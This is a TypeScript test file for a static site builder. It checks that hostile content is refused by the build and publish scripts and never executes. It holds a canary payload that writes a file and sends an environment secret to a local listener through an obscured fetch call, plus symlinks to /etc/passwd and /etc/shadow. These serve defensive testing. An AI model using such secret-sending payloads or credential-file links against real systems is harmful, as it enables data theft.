import { execFile, execFileSync, spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { EXAMPLE_TODAY } from '../../scripts/site/example.ts';
import { readBuiltSite } from '../../scripts/site/read-built-site.ts';
import { whyNoSandbox } from '../../scripts/site/sandbox.ts';
import { seen } from '../../src/checks/format.ts';
import { leadsOn } from '../../src/checks/built/built-site.ts';
import { filesIn, manifestOf } from '../../src/publish/manifest.ts';
import { launchBrowser } from '../browser/launch.ts';
import { openAll, type Seen } from '../browser/open-all.ts';
import { refusedContent, sideBySide, type Refused } from '../corpora/hostile-content.ts';
import { poisonContent } from '../corpora/poison-content.ts';
import { tellFigure } from '../figures.ts';
import { ROOT } from '../house/source-files.ts';
import { CLEAN } from '../mistakes/clean-content.ts';

/**
 * Hostile content through the real commands. Whatever of it ran would write a file, open a connection, and send a secret
 * of the environment with it.
 */
/** Hundreds of pages are opened, and sites built one after another. */
const SLOW_MS = 600_000;
const SECRET = 'hunter2-of-the-environment';
let room: string;
let browser: Browser;
let ear: Server;
let heard = 0;
let canary: string;
let away: string;
let footprint: string;

beforeAll(async () => {
  room = mkdtempSync(path.join(tmpdir(), 'candour-hostile-'));
  browser = await launchBrowser();
  ear = createServer((socket) => {
    heard += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => ear.listen(0, '127.0.0.1', resolve));
  away = `http://127.0.0.1:${(ear.address() as { port: number }).port}/`;
  footprint = path.join(room, 'footprint');
  canary = [
    'globalThis.canary=1',
    `globalThis.process?.getBuiltinModule('fs').writeFileSync('${footprint}','')`,
    // An address in plain words would be made a link.
    `globalThis.fetch(atob('${btoa(away)}')+globalThis.process?.env.CANDOUR_SECRET)`,
  ].join();
});
afterAll(async () => {
  await browser.close();
  ear.close();
  rmSync(room, { recursive: true, force: true });
});

/** No canary sang: nothing was written, nobody called, and the secret stands nowhere in what was made. */
function nothingHappened(made?: string): void {
  expect({ written: existsSync(footprint), heard, polluted: Reflect.get({}, 'polluted') }).toEqual({
    written: false,
    heard: 0,
    polluted: undefined,
  });
  if (made === undefined) return;
  const telling = filesIn(made).filter((file) => readFileSync(path.join(made, file)).includes(SECRET));
  expect(telling).toEqual([]);
}

interface Ran {
  status: number;
  stdout: string;
  stderr: string;
}

/** Runs a script of the project as a person would, with a secret in the environment, and lets the ear listen meanwhile. */
async function run(script: string, ...args: string[]): Promise<Ran> {
  return node(path.join(ROOT, script), ...args);
}

async function node(...args: string[]): Promise<Ran> {
  const env = { ...process.env, CANDOUR_SECRET: SECRET };
  return new Promise((resolve) => {
    execFile(process.execPath, args, { cwd: ROOT, env, maxBuffer: 1e8 }, (error, stdout, stderr) =>
      resolve({ status: error === null ? 0 : Number(error.code), stdout, stderr }),
    );
  });
}

/** Writes a content folder in which nothing is wrong but the cases. */
function contentWith(name: string, cases: readonly Refused[]): string {
  const folder = path.join(room, name);
  for (const [file, content] of [...Object.entries(CLEAN), ...cases.map(({ file: own }) => own)]) {
    mkdirSync(path.dirname(path.join(folder, file)), { recursive: true });
    writeFileSync(path.join(folder, file), content);
  }
  return folder;
}

/** Where a build says that there are errors. */
function placesTold({ stderr }: Ran, content: string): string[] {
  const lines = stderr
    .split('\n')
    .filter((line) => line.startsWith(`${content}/`) && line.endsWith('  error'));
  return lines.map((line) => {
    const [, file = '', number = '-'] =
      /^(.*?)(?::(\d+):\d+)? {2}error$/.exec(line.slice(content.length + 1)) ?? [];
    return `${file}:${number}`;
  });
}
const placeOf = ({ file: [file], line }: Refused): string => `${seen(file)}:${line ?? '-'}`;

/** Opens every page of a folder in a browser. */
async function openSite(folder: string): Promise<Seen & { pages: number }> {
  const { pages } = readBuiltSite(folder);
  const addresses = pages.filter((page) => !leadsOn(page)).map(({ address }) => address);
  return { ...(await openAll(browser, folder, addresses)), pages: addresses.length };
}
const QUIET = { violations: [], elsewhere: [], ran: [] };

describe('content that is to be refused', () => {
  test(
    'is refused by the build and by the publish, each case with its file and line, and nothing changes',
    { timeout: SLOW_MS },
    async () => {
      const cases = refusedContent(canary, away);
      const together = sideBySide(cases);
      const out = path.join(room, 'out');
      const live = path.join(room, 'live');
      const content = contentWith('together', []);
      const order = ['--content', content, '--today', EXAMPLE_TODAY];
      expect(await run('scripts/build.ts', ...order, '--out', out)).toMatchObject({ status: 0 });
      expect(await run('scripts/publish.ts', ...order, '--to', live, '--without-pdf')).toMatchObject({
        status: 0,
      });
      const before = [manifestOf(out), manifestOf(path.join(live, 'current/'))];

      const ofTheSite = cases.filter(({ file: [file] }) => file === 'site.yaml');
      const folders = [
        { folder: 'together', of: together },
        ...ofTheSite.map((one) => ({ folder: 'together', of: [one] })),
      ];
      for (const { folder, of } of folders) {
        rmSync(content, { recursive: true });
        contentWith(folder, of);
        const built = await run('scripts/build.ts', ...order, '--out', out);
        const told = placesTold(built, content);
        expect(of.filter((one) => !told.includes(placeOf(one))).map(({ what }) => what)).toEqual([]);
        expect(built).toMatchObject({
          status: 1,
          stderr: expect.stringContaining(`${out} has not changed.`),
        });
        expect(built.stderr).not.toMatch(/^::|\u001b/m);
      }
      const published = await run('scripts/publish.ts', ...order, '--to', live);
      expect(published).toMatchObject({ status: 1 });
      expect(published.stdout + published.stderr).toContain('The published site has not changed.');
      expect([manifestOf(out), manifestOf(path.join(live, 'current/'))]).toEqual(before);
      nothingHappened(out);
      tellFigure(
        'Hostile content, by the real build',
        `${cases.length} cases refused with file and line, 0 executed`,
      );
    },
  );

  test('is refused where it is no file at all: a pipe, a device, a way out, and 60 GB of nothing', async () => {
    const content = contentWith('odd', []);
    const inside = (name: string): string => path.join(content, name);
    const odd = [
      'files/pipe.png',
      'files/out.txt',
      'files/all',
      'plans/send/actions/1.4.yaml',
      'files/huge.pdf',
    ];
    execFileSync('mkfifo', [inside('files/pipe.png')]);
    if (spawnSync('mknod', [inside('files/zero.png'), 'c', '1', '5']).status === 0)
      odd.push('files/zero.png');
    symlinkSync('/etc/passwd', inside('files/out.txt'));
    symlinkSync('/', inside('files/all'));
    symlinkSync('/etc/shadow', inside('plans/send/actions/1.4.yaml'));
    writeFileSync(inside('files/huge.pdf'), '');
    truncateSync(inside('files/huge.pdf'), 60e9);
    const out = path.join(room, 'odd-out');
    const built = await run('scripts/build.ts', '--content', content, '--out', out, '--today', EXAMPLE_TODAY);
    expect(built.status).toBe(1);
    expect(placesTold(built, content).toSorted()).toEqual(odd.map((name) => `${name}:-`).toSorted());
    expect(existsSync(out)).toBe(false);
    // The build by itself does not follow or wait either.
    const made = await withoutCheck(content, 'odd-made');
    expect(filesIn(made).filter((file) => /pipe|zero|out\.txt|all|huge/.test(file))).toEqual([]);
    expect(filesIn(made).some((file) => readFileSync(path.join(made, file)).includes('root:x:0:0'))).toBe(
      false,
    );
  });

  /** Builds without the check that comes before, as if it had been by-passed. */
  async function withoutCheck(content: string, name: string): Promise<string> {
    const folder = path.join(room, name);
    mkdirSync(folder);
    const order = { content, today: EXAMPLE_TODAY, site: null, base: null, verbose: false };
    const { stdout } = await run('scripts/site/write-site.ts', JSON.stringify({ order, folder }));
    expect(stdout).toMatch(/^\{"(pages|wrong)":/m);
    return folder;
  }

  test('runs nothing and publishes nothing that could run, where the check is by-passed', async () => {
    const cases = sideBySide(refusedContent(canary, away));
    const made = await withoutCheck(contentWith('unchecked', cases), 'unchecked-made');
    nothingHappened(made);
    const published = filesIn(made);
    expect(published.filter((file) => /^files\/.*\.(svg|png|jpg)$/.test(file))).toEqual(['files/map.png']);
    const { pages, ...seen } = await openSite(made);
    expect(seen).toEqual(QUIET);
    nothingHappened();
    tellFigure(
      'Hostile content, with the check by-passed',
      `${cases.length} cases on ${pages} pages, 0 executed, 0 fetched`,
    );
  });
});

describe('content that is let be, in every free text of the example', () => {
  let content: string;
  let texts: number;
  beforeAll(() => {
    content = path.join(room, 'poisoned');
    texts = poisonContent(path.join(ROOT, 'content'), content, canary, away);
  });

  test('is built, and every page of it opens and runs nothing', { timeout: SLOW_MS }, async () => {
    const out = path.join(room, 'poisoned-out');
    expect(
      await run('scripts/build.ts', '--content', content, '--out', out, '--today', EXAMPLE_TODAY),
    ).toMatchObject({
      status: 0,
    });
    nothingHappened(out);
    const { pages, ...seen } = await openSite(out);
    expect(seen).toEqual(QUIET);
    expect(pages).toBeGreaterThan(300);
    nothingHappened(out);
    tellFigure(
      'Hostile words',
      `in ${texts} texts on ${pages} pages: 0 executed, 0 fetched, 0 policy violations`,
    );
  });

  test.skipIf(whyNoSandbox() !== null)(
    'is published from the sandbox, with its PDFs',
    { timeout: SLOW_MS },
    async () => {
      const live = path.join(room, 'poisoned-live');
      expect(
        await run('scripts/publish.ts', '--content', content, '--to', live, '--today', EXAMPLE_TODAY),
      ).toMatchObject({
        status: 0,
      });
      nothingHappened(path.join(live, 'current/'));
    },
  );

  test('the canaries do sing where something runs', async () => {
    await node('--input-type=module', '--eval', `await (${canary}).catch(() => 0)`);
    expect(heard).toBe(1);
    expect(existsSync(footprint)).toBe(true);
  });
});
